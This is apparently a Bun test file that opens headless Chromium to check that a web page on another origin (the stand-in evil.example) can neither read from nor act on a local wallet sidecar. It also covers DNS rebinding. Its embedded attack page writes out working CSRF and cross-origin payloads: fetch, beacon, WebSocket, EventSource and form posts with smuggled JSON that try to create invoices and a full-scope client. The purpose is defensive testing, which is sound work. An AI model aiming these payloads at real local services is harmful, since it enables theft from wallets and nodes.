import { afterAll, beforeAll, expect, setDefaultTimeout, test } from 'bun:test';
import { existsSync, mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { type DevSidecar, startDevSidecar } from '../support/dev-sidecar.ts';
import { removeFolder, temporaryFolder } from '../support/folder.ts';
import { freePort } from '../support/ports.ts';
import { SLOW_TEST_MS } from '../support/until.ts';

setDefaultTimeout(SLOW_TEST_MS);

const CHROMIUM =
  process.env.CHROMIUM_BIN ?? ['/usr/bin/chromium', '/usr/bin/google-chrome'].find(existsSync);
if (CHROMIUM === undefined) {
  console.warn(
    'SKIPPED: Chromium was not found, so it is NOT checked that web pages cannot reach the wallet. Set CHROMIUM_BIN.',
  );
}

/** What the page tried, and whether it could read an answer of the sidecar. */
type Outcome = Readonly<Record<string, string>>;

const folder = temporaryFolder('browser');
const port = freePort();
let sidecar: DevSidecar;

beforeAll(async () => {
  if (CHROMIUM) sidecar = await startDevSidecar({ dataDir: join(folder, 'data'), port });
});
afterAll(async () => {
  await sidecar?.stop();
  removeFolder(folder);
});

test.skipIf(CHROMIUM === undefined)(
  'a page on another origin can neither act on the wallet nor read from it',
  async () => {
    const before = await footprint();
    const outcome = await visit(attackPage(port));
    expect(await footprint()).toEqual(before);
    expect(Object.keys(outcome).length).toBeGreaterThanOrEqual(14);
    for (const [attempt, result] of Object.entries(outcome)) {
      expect(`${attempt}: ${result}`).not.toContain('READ');
    }
  },
);

test.skipIf(CHROMIUM === undefined)(
  'a name that was rebound to this machine is refused by its Host header',
  async () => {
    const browser = Bun.spawn(
      [...chromiumWith('--dump-dom'), `http://evil.example:${port}/v2/node/node_info`],
      { stdout: 'pipe', stderr: 'ignore' },
    );
    const shown = await new Response(browser.stdout).text();
    expect(shown).toContain('"code":112');
    expect(shown).not.toContain('balance');
  },
);

/** Resolves to everything that a successful attack would change. */
async function footprint(): Promise<unknown> {
  return Promise.all([
    sidecar.call('GET', '/v2/node/node_info'),
    sidecar.call('GET', '/v2/node/updated_payments'),
    sidecar.call('GET', '/v2/node/list_clients'),
    sidecar.call('GET', '/v2/node/list_payments', { query: { filter: 'all' } }),
  ]);
}

/** Serves the page from another origin and opens it in a real browser. Resolves to what the page reports. */
async function visit(page: string): Promise<Outcome> {
  const reported = Promise.withResolvers<Outcome>();
  const server = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    async fetch(request) {
      if (request.method === 'POST') {
        reported.resolve((await request.json()) as Outcome);
        return new Response('ok');
      }
      return new Response(page, { headers: { 'content-type': 'text/html' } });
    },
  });
  const browser = Bun.spawn([...chromiumWith(), `http://evil.example:${server.port}/`], {
    stdout: 'ignore',
    stderr: 'ignore',
  });
  try {
    return await reported.promise;
  } finally {
    browser.kill('SIGKILL');
    await browser.exited;
    await server.stop(true);
  }
}

/** Returns the command line of a fresh browser in which the attacker's name resolves to this machine. */
function chromiumWith(...flags: readonly string[]): string[] {
  return [
    CHROMIUM ?? '',
    '--headless',
    '--no-sandbox',
    '--disable-gpu',
    '--disable-quic',
    '--no-first-run',
    '--disable-background-networking',
    '--disable-component-update',
    '--disable-sync',
    `--user-data-dir=${mkdtempSync(join(folder, 'profile-'))}`,
    '--host-resolver-rules=MAP evil.example 127.0.0.1',
    ...flags,
  ];
}

function attackPage(sidecarPort: number): string {
  return `<!doctype html><body><script>
const base = 'http://127.0.0.1:${sidecarPort}';
const outcome = {};
const body = JSON.stringify({ amount: '1', description: 'attack' });
const tries = [];
function attempt(name, work) {
  const limit = new Promise((_, no) => setTimeout(() => no(new Error('timeout')), 4000));
  tries.push(Promise.race([work(), limit]).then((r) => { outcome[name] = r; }, (e) => { outcome[name] = 'blocked: ' + e.message; }));
}
for (const mode of ['cors', 'no-cors', 'same-origin']) {
  attempt('fetch get ' + mode, async () => { const r = await fetch(base + '/v2/node/node_info', { mode }); return r.type === 'opaque' ? 'opaque' : 'READ ' + (await r.text()); });
  attempt('fetch post text ' + mode, async () => { const r = await fetch(base + '/v2/node/create_invoice', { method: 'POST', mode, body }); return r.type === 'opaque' ? 'opaque' : 'READ ' + (await r.text()); });
  attempt('fetch post json ' + mode, async () => { const r = await fetch(base + '/v2/node/create_invoice', { method: 'POST', mode, body, headers: { 'content-type': 'application/json' } }); return r.type === 'opaque' ? 'opaque' : 'READ ' + (await r.text()); });
}
attempt('fetch with credentials', async () => { const r = await fetch(base + '/v2/node/create_client', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"scopes":["full"]}' }); return r.type; });
attempt('put sync', async () => { const r = await fetch(base + '/v2/node/sync_payments', { method: 'PUT' }); return 'READ ' + (await r.text()); });
attempt('beacon', async () => String(navigator.sendBeacon(base + '/v2/node/create_invoice', body)));
attempt('image', () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('READ'); i.onerror = () => no(new Error('no image')); i.src = base + '/v2/node/get_next_unused_address'; }));
attempt('script', () => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = () => yes('loaded, not readable'); s.onerror = () => no(new Error('no script')); s.src = base + '/v2/node/node_info'; document.body.append(s); }));
attempt('websocket', () => new Promise((yes, no) => { const w = new WebSocket(base.replace('http', 'ws') + '/v2/node/events'); w.onopen = () => yes('READ open'); w.onerror = () => no(new Error('no socket')); }));
attempt('event source', () => new Promise((yes, no) => { const e = new EventSource(base + '/v2/node/events'); e.onopen = () => yes('READ open'); e.onerror = () => no(new Error('no stream')); }));
for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
  attempt('form ' + enctype, () => new Promise((yes) => {
    const frame = document.createElement('iframe'); frame.name = 'f' + enctype; document.body.append(frame);
    const form = document.createElement('form'); form.method = 'POST'; form.enctype = enctype; form.target = frame.name; form.action = base + '/v2/node/create_invoice';
    const input = document.createElement('input'); input.name = '{"amount":"1","x":"'; input.value = '"}'; form.append(input); document.body.append(form);
    frame.onload = () => { try { yes(frame.contentDocument && frame.contentDocument.body.textContent.length ? 'READ' : 'sent, not readable'); } catch (e) { yes('blocked: ' + e.name); } };
    form.submit();
  }));
}
Promise.all(tries).then(() => fetch('/', { method: 'POST', body: JSON.stringify(outcome) }));
</script></body>`;
}
